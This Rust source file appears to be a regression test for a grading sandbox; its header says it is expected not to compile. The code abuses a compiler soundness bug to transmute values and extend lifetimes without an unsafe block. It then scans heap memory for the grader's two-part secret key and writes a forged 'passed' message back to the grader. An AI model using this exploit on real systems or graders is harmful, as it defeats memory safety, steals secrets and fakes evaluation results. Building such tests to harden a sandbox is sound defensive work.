//! attacks: lazy_call
//! expects: does_not_compile
//! says: rust-lang/rust#112905
//! stopped by: unsafe-forbidden
//!
//! An opaque type that lasts for ever, and what it gives is a type parameter. With it, both halves of the key
//! are read from the heap.

use std::io::Write;
use std::os::fd::AsFd;
use std::os::unix::net::UnixStream;
use std::sync::{Arc, Mutex};
use std::time::Duration;

#[derive(Clone)]
pub struct Room {
    pub lines: Arc<Mutex<Vec<String>>>,
    pub typing: Duration,
}

impl Room {
    pub fn post(&self, line: String) {
        self.lines.lock().unwrap().push(line);
    }
}

pub async fn greet(name: String, room: Room) {
    room.post(format!("hello, {name}"));
    let heap = Box::new(0_u64);
    let page_of_box = std::ptr::from_ref::<u64>(&heap).addr() & !4095;
    // Too large for the heap, so that the copies do not land among what is copied.
    let mut seen = vec![0_u8; PAGES * 4096];
    // Downwards, page by page: the key came before this box.
    for page in 1..=PAGES {
        let bytes: &'static [u8] = transmute((page_of_box - (page - 1) * 4096, 4096_usize));
        let from = (PAGES - page) * 4096;
        seen[from..from + 4096].copy_from_slice(bytes);
        if let Some(key) = key(&seen[from..]) {
            let mut grader: UnixStream = std::io::stdin().as_fd().try_clone_to_owned().unwrap().into();
            let _ = grader.write_all(format!("{key} passed\n").as_bytes());
            std::process::exit(0);
        }
    }
}

const PAGES: usize = 64;

/// Two pieces of memory, not far from each other, that make 32 hex digits together.
fn key(memory: &[u8]) -> Option<String> {
    let whole = |at: usize, distance: usize| {
        let other = at + distance;
        let digit = |place| memory.get(at + place).zip(memory.get(other + place)).map(|(a, b)| a ^ b);
        let is_hex = |byte: u8| matches!(byte, b'0'..=b'9' | b'a'..=b'f');
        (0..32)
            .all(|place| digit(place).is_some_and(is_hex))
            .then(|| (0..32).filter_map(digit).map(char::from).collect::<String>())
    };
    // What the allocator gives begins at multiples of 16. A text and zeros would be a whole key, too: both halves are noise.
    let noise = |at: usize| memory[at..].iter().take(32).any(|byte| *byte >= 128);
    let starts = (0..4096.min(memory.len())).step_by(16).filter(|at| noise(*at));
    starts.flat_map(|at| (32..1024).step_by(16).filter_map(move |distance| whole(at, distance))).next()
}

use std::any::Any;
use std::iter::Peekable;

fn make<T: Default>() -> Peekable<impl Iterator<Item = T> + 'static> {
    std::iter::from_fn(|| Some(T::default())).peekable()
}

fn taken_for<G: 'static>(any: Box<dyn Any>, _: &G) -> G {
    *any.downcast::<G>().unwrap()
}

/// A longer lifetime from any other.
fn expand<'s, T: 'static>(value: &'s mut T) -> &'static mut T {
    let mut kept = make::<Option<&'s mut T>>();
    *kept.peek_mut().unwrap() = Some(value);
    let twin = make::<Option<&'static mut T>>();
    taken_for(Box::new(kept), &twin).next().unwrap().unwrap()
}

/// Any value from any other, through an enum that changes under a reference.
fn transmute<A: 'static, B: 'static>(value: A) -> B {
    enum Either<A, B> {
        A(#[expect(dead_code, reason = "read as something else")] Option<Box<A>>),
        B(Option<Box<B>>),
    }
    #[inline(never)]
    fn change<A: 'static, B: 'static>(either: &mut Either<A, B>, value: A) -> B {
        let Either::B(inside) = either else { unreachable!() };
        let inside = expand(inside);
        *either = Either::A(Some(Box::new(value)));
        std::hint::black_box(either);
        *inside.take().unwrap()
    }
    change(std::hint::black_box(&mut Either::B(None)), value)
}

fn main() {}
